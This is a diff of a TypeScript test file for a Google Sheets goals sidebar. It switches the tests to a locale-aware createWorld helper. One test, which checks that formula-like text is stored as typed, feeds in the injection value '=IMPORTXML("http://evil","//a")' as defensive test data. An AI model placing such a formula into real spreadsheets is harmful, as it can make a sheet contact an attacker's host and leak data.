@@ -11,10 +11,9 @@ import {
   showGoalsSidebar,
 } from '../../src/goals/server';
 import { readGoals, LOCK_TIMEOUT_MS } from '../../src/goals/store';
-import { createFakeAppsScript, fakeServices } from '../../src/local/fakes';
 import type { SaveRequest, SaveResult } from '../../src/goals/types';
 import { dataWith, input, monthly } from './helpers';
-import { createWorld } from './world';
+import { createWorld } from '../support/world';
 
 const history = monthly('2025-01', [0.03, 0.031, 0.033, 0.034, 0.036, 0.037, 0.039, 0.04, 0.041]);
 /** Impressions grow by 500 a month: a rate over months is pooled on them. */
@@ -28,7 +27,7 @@ function saved(result: SaveResult) {
 
 describe('measuring a baseline for the form', () => {
   test('ends the window before the goal’s start when the form has one in the past', () => {
-    const world = createWorld({ today: '2025-10-06' });
+    const world = createWorld('stockholm-sv', { today: '2025-10-06' });
     const anna = world.as('anna@example.se');
     expect(computeBaseline(anna, data, 'engagement_rate', null, 'last_3_months')).toMatchObject({
       months: ['2025-07', '2025-08', '2025-09'],
@@ -49,7 +48,7 @@ describe('measuring a baseline for the form', () => {
 
 describe("the report's goal section", () => {
   test('lists the goals running in the month and counts the others', () => {
-    const world = createWorld({ today: '2025-10-06' });
+    const world = createWorld('stockholm-sv', { today: '2025-10-06' });
     const anna = world.as('anna@example.se');
     saved(saveGoal(anna, data, { goal: input({ what: 'Runs in October' }) }));
     saved(saveGoal(anna, data, { goal: input({ what: 'Starts in December', start: '2025-12-01' }) }));
@@ -64,7 +63,7 @@ describe("the report's goal section", () => {
 
 describe('saving goals', () => {
   test('the Swedish guide’s example in one save request', () => {
-    const world = createWorld({ today: '2025-10-06' });
+    const world = createWorld('stockholm-sv', { today: '2025-10-06' });
     const anna = world.as('anna@example.se');
     const sidebar = getGoalsSidebarData(anna, data);
     const baseline = computeBaseline(anna, data, 'engagement_rate', null, 'last_3_months');
@@ -112,7 +111,7 @@ describe('saving goals', () => {
   });
 
   test('text that looks like a formula, a number or a date stays exactly as typed', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const tricky = {
       what: '=IMPORTXML("http://evil","//a")',
@@ -129,7 +128,7 @@ describe('saving goals', () => {
   });
 
   test('reads once and writes one row once, under the lock, released after', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     saved(saveGoal(anna, data, { goal: input() }));
     world.gas.calls.reset();
@@ -150,12 +149,9 @@ describe('saving goals', () => {
 
   test('an empty address from Session (a consumer account, a user outside the owner’s domain) saves without an error', () => {
     // Through the fake Session, as in Sheets: User.getEmail() is "" when policy hides the address.
-    const gas = createFakeAppsScript({
-      spreadsheet: { locale: 'sv_SE', timeZone: 'Europe/Stockholm' },
+    const { gas, services } = createWorld('stockholm-sv', {
       session: { activeUserEmail: '', effectiveUserEmail: '' },
-      now: () => new Date('2025-10-06T09:00:00Z'),
     });
-    const services = fakeServices(gas);
     expect(getGoalsSidebarData(services, data).userEmail).toBe('');
     // The form then starts with an empty owner, which the user types.
     const goal = saved(saveGoal(services, data, { goal: input({ owner: 'Anna' }) }));
@@ -168,7 +164,7 @@ describe('saving goals', () => {
   });
 
   test('busy: another save holds the lock', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     world.gas.locks.holdBy('teammate');
     const result = saveGoal(world.as('anna@example.se'), data, { goal: input() });
     expect(result).toEqual({
@@ -181,7 +177,7 @@ describe('saving goals', () => {
   });
 
   test('the lock is released when the write throws', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     saved(saveGoal(anna, data, { goal: input() }));
     const broken = {
@@ -195,7 +191,7 @@ describe('saving goals', () => {
   });
 
   test('a stale save is a conflict carrying both versions; resending over theirs lands', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const bo = world.as('bo@example.se');
     const goal = saved(saveGoal(anna, data, { goal: input() }));
@@ -220,7 +216,7 @@ describe('saving goals', () => {
   });
 
   test('an update without a version is a conflict, never a blind overwrite', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const goal = saved(saveGoal(anna, data, { goal: input() }));
     expect(saveGoal(anna, data, { id: goal.id, goal: input({ what: 'x' }) })).toMatchObject({
@@ -230,7 +226,7 @@ describe('saving goals', () => {
   });
 
   test('saving a goal a teammate deleted is a conflict with theirs = null', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const goal = saved(saveGoal(anna, data, { goal: input() }));
     expect(deleteGoal(world.as('bo@example.se'), goal.id, 1)).toEqual({ status: 'deleted', id: goal.id });
@@ -242,7 +238,7 @@ describe('saving goals', () => {
   });
 
   test('checks run again on the server; the wrong direction must be confirmed', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const invalid = saveGoal(anna, data, { goal: input({ what: '', deadline: '2025-01-01' }) });
     expect(invalid).toMatchObject({
@@ -269,7 +265,7 @@ describe('saving goals', () => {
   });
 
   test('garbage from the client is refused, not crashed on', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     for (const raw of [null, 42, 'x', {}, { goal: null }, { goal: { baseline: {}, baselineMonths: 'x' } }]) {
       expect(saveGoal(anna, data, raw).status).toBe('invalid');
@@ -277,7 +273,7 @@ describe('saving goals', () => {
   });
 
   test('check without saving gives issues, target value and achievability', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const result = checkGoal(world.as('anna@example.se'), data, {
       goal: input({ baseline: '4 %', target: '+35 %' }),
     });
@@ -287,7 +283,7 @@ describe('saving goals', () => {
   });
 
   test('a target on the wrong side of the baseline is questioned, and not judged achievable', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     // Engagement rate is ↑: a target below the baseline is the wrong side.
     const checked = checkGoal(anna, data, { goal: input({ baseline: '4 %', target: '−10 %' }) });
@@ -307,7 +303,7 @@ describe('saving goals', () => {
 
 describe('deleting goals', () => {
   test('version-checked, under the lock', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const first = saved(saveGoal(anna, data, { goal: input({ what: 'First' }) }));
     const second = saved(saveGoal(anna, data, { goal: input({ what: 'Second' }) }));
@@ -331,7 +327,7 @@ describe('deleting goals', () => {
 
 describe('sidebar data', () => {
   test('goals with progress, KPIs by family, channels, today and locale', () => {
-    const world = createWorld({ today: '2025-10-06' });
+    const world = createWorld('stockholm-sv', { today: '2025-10-06' });
     const anna = world.as('anna@example.se');
     saved(saveGoal(anna, data, { goal: input() }));
     world.setToday('2025-12-01');
@@ -359,7 +355,7 @@ describe('sidebar data', () => {
   });
 
   test('reading tolerates a tab edited by hand and reports the broken row', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     const goal = saved(saveGoal(anna, data, { goal: input() }));
     const sheet = world.gas.spreadsheet.getSheetByName('Goals')!;
@@ -377,13 +373,15 @@ describe('sidebar data', () => {
   });
 
   test('the sidebar opens from dist/GoalsSidebar.html with a title', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv', {
+      html: { files: { GoalsSidebar: '<!doctype html><p>Goals</p>' } },
+    });
     showGoalsSidebar(world.as('anna@example.se'));
     expect(world.gas.ui.lastSidebar()).toMatchObject({ title: 'SMART-mål' });
   });
 
   test('property: the sidebar data is always plain JSON', () => {
-    const world = createWorld();
+    const world = createWorld('stockholm-sv');
     const anna = world.as('anna@example.se');
     fc.assert(
       fc.property(fc.constantFrom('+35 %', '−5 %', '5 %', '0,05'), (target) => {
